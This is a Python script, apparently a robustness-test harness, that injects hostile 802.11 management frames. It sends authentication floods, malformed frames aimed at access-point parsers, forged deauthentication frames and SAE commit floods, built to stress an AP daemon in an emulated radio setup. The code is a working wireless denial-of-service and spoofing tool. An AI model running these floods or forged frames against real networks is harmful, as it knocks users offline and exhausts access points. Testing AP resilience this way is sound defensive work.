#!/usr/bin/env python3
"""Hostile 802.11 management frames for the air-robustness scenario.

Sends frames through a monitor-mode interface: an AF_PACKET raw socket, each
frame a radiotap header (TX flags: no ACK wanted) followed by the 802.11
frame, which mac80211 puts on the air as it is. mac80211_hwsim delivers them
to every radio on the channel, so the AP daemon's radio receives them like
frames from real stations.

  inject.py IFACE KIND --bssid MAC [--sta MAC] [--count N] [--rate FPS] [--seed S]

KIND
  auth-flood    Open System Authentication requests from random unicast
                (locally administered) addresses, each a new station.
  malformed     management frames to the AP that a parser must survive:
                element lengths that run past the end, truncated fixed
                fields, (re)association requests from stations that never
                authenticated, Authentication with odd algorithms, short
                Action frames, probe requests with broken elements.
  spoof-deauth  Deauthentication and Disassociation "from" --sta to the AP,
                unprotected or with the Protected bit and a bogus CCMP body:
                with PMF the AP must ignore them all.
  sae-commit-flood
                SAE Commit frames (Authentication algorithm 3, transaction 1,
                status 0: hunting-and-pecking, group 19) from random locally
                administered addresses, each with a random scalar in
                [2, r-1] and a valid P-256 element. A point off the curve
                or a scalar out of range is refused after a cheap check; a
                valid pair is what makes the AP derive a password element
                for the new address and do real scalar multiplications, the
                work an anti-clogging token exists to keep within bounds.
                The elements are a few points k*G precomputed here with
                plain integer arithmetic (the attacker need not know their
                discrete logarithm relative to the PWE: any valid point will
                do, as the AP cannot tell).

All frames are built before the first is sent (so that building them does
not slow the injection down), then sent in small bursts against the clock
to hold the rate (an emulated CPU cannot keep a fixed inter-frame gap). One
summary line is printed: frames sent, send errors (a full transmit queue:
ENOBUFS), seconds taken, rate achieved. The frames come from a seeded
generator, so a run can be repeated.
"""
import argparse
import errno
import random
import socket
import struct
import sys
import time

# Radiotap: version 0, length 10, present = TX flags (bit 15); TX flags =
# NOACK (0x0008), so mac80211 does not wait for an acknowledgement.
RADIOTAP = struct.pack("<BBHIH", 0, 0, 10, 1 << 15, 0x0008)

ASSOC_REQ, REASSOC_REQ, PROBE_REQ = 0, 2, 4
DISASSOC, AUTH, DEAUTH, ACTION = 10, 11, 12, 13
PROTECTED = 0x40  # Frame Control flags byte

CCMP = b"\x00\x0f\xac\x04"
PSK = b"\x00\x0f\xac\x02"
RATES = bytes([0x82, 0x84, 0x8B, 0x96, 0x0C, 0x12, 0x18, 0x24])


def mac(text):
    parts = text.split(":")
    if len(parts) != 6:
        raise argparse.ArgumentTypeError(f"not a MAC address: {text}")
    return bytes(int(p, 16) for p in parts)


def elem(eid, data):
    return bytes([eid, len(data)]) + data


def lying_elem(eid, data, claimed):
    """An element whose length field claims more (or other) than it carries."""
    return bytes([eid, claimed]) + data


def rsne(pairwise_count=1, akm_count=1, caps=0x00C0):
    body = struct.pack("<H", 1) + CCMP
    body += struct.pack("<H", pairwise_count) + CCMP
    body += struct.pack("<H", akm_count) + PSK
    return elem(48, body + struct.pack("<H", caps))


# NIST P-256 (group 19): y^2 = x^3 - 3x + b over GF(p), generator G of order R.
P256_P = 2**256 - 2**224 + 2**192 + 2**96 - 1
P256_B = 0x5AC635D8AA3A93E7B3EBBD55769886BC651D06B0CC53B0F63BCE3C3E27D2604B
P256_G = (0x6B17D1F2E12C4247F8BCE6E563A440F277037D812DEB33A0F4A13945D898C296,
          0x4FE342E2FE1A7F9B8EE7EB4A7C0F9E162BCE33576B315ECECBB6406837BF51F5)
P256_R = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551


def p256_multiply(k, point):
    """k * point, double-and-add in Jacobian coordinates (one inversion at the
    end, so that a few points take milliseconds even on an emulated CPU)."""
    p = P256_P

    def double(X, Y, Z):
        if Y == 0:
            return 0, 1, 0
        S = 4 * X * Y * Y % p
        M = 3 * (X - Z * Z) * (X + Z * Z) % p  # a = -3
        X3 = (M * M - 2 * S) % p
        return X3, (M * (S - X3) - 8 * pow(Y, 4, p)) % p, 2 * Y * Z % p

    def add(X1, Y1, Z1, X2, Y2, Z2):
        if Z1 == 0:
            return X2, Y2, Z2
        if Z2 == 0:
            return X1, Y1, Z1
        U1, U2 = X1 * Z2 * Z2 % p, X2 * Z1 * Z1 % p
        S1, S2 = Y1 * pow(Z2, 3, p) % p, Y2 * pow(Z1, 3, p) % p
        if U1 == U2:
            return double(X1, Y1, Z1) if S1 == S2 else (0, 1, 0)
        H, Rr = (U2 - U1) % p, (S2 - S1) % p
        X3 = (Rr * Rr - H ** 3 - 2 * U1 * H * H) % p
        return X3, (Rr * (U1 * H * H - X3) - S1 * H ** 3) % p, H * Z1 * Z2 % p

    acc, base = (0, 1, 0), (point[0], point[1], 1)
    while k:
        if k & 1:
            acc = add(*acc, *base)
        base = double(*base)
        k >>= 1
    X, Y, Z = acc
    zinv = pow(Z, -1, p)
    x, y = X * zinv * zinv % p, Y * zinv ** 3 % p
    assert (y * y - (x ** 3 - 3 * x + P256_B)) % p == 0, "not on P-256"
    return x, y


class Frames:
    def __init__(self, rng, bssid, sta, ssid):
        self.rng = rng
        self.bssid = bssid
        self.sta = sta
        self.ssid = ssid
        self.seq = 0

    def random_sta(self):
        b = bytearray(self.rng.randbytes(6))
        b[0] = (b[0] & 0xFC) | 0x02  # unicast, locally administered
        return bytes(b)

    def junk(self, lo, hi):
        return self.rng.randbytes(self.rng.randint(lo, hi))

    def header(self, subtype, src, flags=0, dst=None):
        self.seq = (self.seq + 1) & 0xFFF
        fc = (subtype << 4) | (flags << 8)
        dst = dst or self.bssid
        return struct.pack("<HH", fc, 0) + dst + src + self.bssid + struct.pack("<H", self.seq << 4)

    def assoc_fixed(self):
        return struct.pack("<HH", 0x0431, 10)  # capabilities (ESS, privacy, short slot), listen interval

    def good_elements(self):
        return elem(0, self.ssid) + elem(1, RATES) + rsne()

    # --- auth-flood ---------------------------------------------------------
    def auth_open(self):
        return self.header(AUTH, self.random_sta()) + struct.pack("<HHH", 0, 1, 0)

    # --- malformed ----------------------------------------------------------
    def m_assoc_unknown_sta(self):
        return self.header(ASSOC_REQ, self.random_sta()) + self.assoc_fixed() + self.good_elements()

    def m_reassoc_unknown_sta(self):
        return (self.header(REASSOC_REQ, self.random_sta()) + self.assoc_fixed()
                + self.random_sta() + self.good_elements())

    def m_assoc_ssid_lies(self):
        return (self.header(ASSOC_REQ, self.random_sta()) + self.assoc_fixed()
                + lying_elem(0, self.ssid[:3], self.rng.choice([32, 33, 200, 255])))

    def m_assoc_rsne_lies(self):
        src = self.random_sta()
        variant = self.rng.randrange(5)
        if variant == 0:    # pairwise count far beyond the element
            bad = rsne(pairwise_count=0xFFFF)
        elif variant == 1:  # AKM count beyond the element
            bad = rsne(akm_count=200)
        elif variant == 2:  # version only
            bad = elem(48, struct.pack("<H", 1))
        elif variant == 3:  # length runs past the end of the frame
            bad = lying_elem(48, struct.pack("<H", 1) + CCMP, 255)
        else:               # odd length, suite cut in half
            bad = elem(48, struct.pack("<H", 1) + CCMP[:2])
        return (self.header(ASSOC_REQ, src) + self.assoc_fixed() + elem(0, self.ssid)
                + elem(1, RATES) + bad)

    def m_assoc_tail_lies(self):
        # Good elements, then one that is cut short: HT Capabilities (26
        # bytes) carrying 5, an element header without its length byte, or
        # a vendor element too short for its OUI.
        tail = self.rng.choice([
            lambda: lying_elem(45, self.junk(5, 5), 26),
            lambda: bytes([221]),
            lambda: elem(221, self.junk(0, 2)),
            lambda: elem(255, b""),                   # Extension element without an ID
            lambda: lying_elem(255, b"\x23", 40),     # HE capabilities, truncated
            lambda: bytes(i for eid in range(0, 240, 4) for i in (eid, 0)),  # 60 empty elements
        ])()
        return self.header(ASSOC_REQ, self.random_sta()) + self.assoc_fixed() + self.good_elements() + tail

    def m_assoc_truncated(self):
        return self.header(ASSOC_REQ, self.random_sta()) + self.junk(0, 3)

    def m_reassoc_truncated(self):
        return self.header(REASSOC_REQ, self.random_sta()) + self.junk(0, 9)

    def m_reassoc_lies(self):
        return (self.header(REASSOC_REQ, self.random_sta()) + self.assoc_fixed() + self.bssid
                + elem(0, self.ssid) + lying_elem(1, RATES[:2], 8) )

    def m_auth_truncated(self):
        return self.header(AUTH, self.random_sta()) + self.junk(0, 5)

    def m_auth_odd_algorithm(self):
        alg = self.rng.choice([1, 2, 3, 4, 5, 0x7FFF, 0xFFFF])
        seq = self.rng.randint(0, 5)
        return self.header(AUTH, self.random_sta()) + struct.pack("<HHH", alg, seq, 0) + self.junk(0, 64)

    def m_auth_open_elements_lie(self):
        return (self.header(AUTH, self.random_sta()) + struct.pack("<HHH", 0, 1, 0)
                + lying_elem(self.rng.choice([16, 48, 55, 56, 221]), self.junk(0, 4), 100))

    def m_probe_lies(self):
        return (self.header(PROBE_REQ, self.random_sta())
                + self.rng.choice([lambda: lying_elem(0, self.ssid, 255),
                                   lambda: elem(0, self.junk(33, 40)),
                                   lambda: elem(0, b"") + lying_elem(1, b"", 8),
                                   lambda: bytes([0])])())

    def m_action_short(self):
        category = self.rng.choice([0, 3, 4, 5, 6, 7, 8, 9, 10, 13, 21, 126, 127])
        return self.header(ACTION, self.random_sta()) + bytes([category]) + self.junk(0, 3)

    def m_sa_query_unknown_sta(self):
        return self.header(ACTION, self.random_sta()) + bytes([8, self.rng.randint(0, 1)]) + self.junk(0, 2)

    def m_leave_truncated(self):
        return self.header(self.rng.choice([DEAUTH, DISASSOC]), self.random_sta()) + self.junk(0, 1)

    def m_header_only(self):
        subtype = self.rng.choice([ASSOC_REQ, REASSOC_REQ, AUTH, ACTION, 7, 15])
        return self.header(subtype, self.random_sta())

    # --- sae-commit-flood ---------------------------------------------------
    def sae_commit(self):
        if not hasattr(self, "elements"):
            self.elements = [p256_multiply(self.rng.randrange(2, P256_R), P256_G) for _ in range(8)]
        x, y = self.rng.choice(self.elements)
        scalar = self.rng.randrange(2, P256_R)
        return (self.header(AUTH, self.random_sta()) + struct.pack("<HHHH", 3, 1, 0, 19)
                + scalar.to_bytes(32, "big") + x.to_bytes(32, "big") + y.to_bytes(32, "big"))

    # --- spoof-deauth -------------------------------------------------------
    def spoofed_leave(self):
        subtype = self.rng.choice([DEAUTH, DISASSOC])
        reason = struct.pack("<H", self.rng.choice([1, 2, 3, 4, 6, 7, 8, 15]))
        if self.rng.randrange(2):
            return self.header(subtype, self.sta) + reason
        # Protected bit with a made-up CCMP header (ExtIV set), body and MIC.
        ccmp_hdr = self.rng.randbytes(2) + bytes([0, 0x20]) + self.junk(4, 4)
        return self.header(subtype, self.sta, flags=PROTECTED) + ccmp_hdr + self.junk(2, 2) + self.junk(8, 8)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("iface")
    ap.add_argument("kind", choices=["auth-flood", "malformed", "spoof-deauth", "sae-commit-flood"])
    ap.add_argument("--bssid", type=mac, required=True)
    ap.add_argument("--sta", type=mac, help="the station whose address spoof-deauth forges")
    ap.add_argument("--ssid", default="roam-air")
    ap.add_argument("--count", type=int, default=20000)
    ap.add_argument("--rate", type=float, default=1000.0, help="frames per second")
    ap.add_argument("--seed", type=int, default=1)
    args = ap.parse_args()
    if args.kind == "spoof-deauth" and args.sta is None:
        ap.error("spoof-deauth needs --sta")

    frames = Frames(random.Random(args.seed), args.bssid, args.sta, args.ssid.encode())
    if args.kind == "auth-flood":
        makers = [frames.auth_open]
    elif args.kind == "spoof-deauth":
        makers = [frames.spoofed_leave]
    elif args.kind == "sae-commit-flood":
        makers = [frames.sae_commit]
    else:
        makers = [getattr(frames, name) for name in sorted(dir(frames)) if name.startswith("m_")]

    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    sock.bind((args.iface, 0))
    built = time.monotonic()
    batch = [RADIOTAP + frames.rng.choice(makers)() for _ in range(args.count)]
    build_s = time.monotonic() - built
    sent = errors = 0
    start = time.monotonic()
    while sent + errors < args.count:
        due = min(args.count, int((time.monotonic() - start) * args.rate) + 1)
        while sent + errors < due:
            frame = batch[sent + errors]
            try:
                sock.send(frame)
                sent += 1
            except OSError as e:
                if e.errno not in (errno.ENOBUFS, errno.EAGAIN):
                    raise
                errors += 1
        time.sleep(0.005)
    elapsed = time.monotonic() - start
    print(f"inject: kind={args.kind} sent={sent} send_errors={errors} seconds={elapsed:.1f} "
          f"rate={sent / elapsed:.0f}/s build_seconds={build_s:.1f}", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
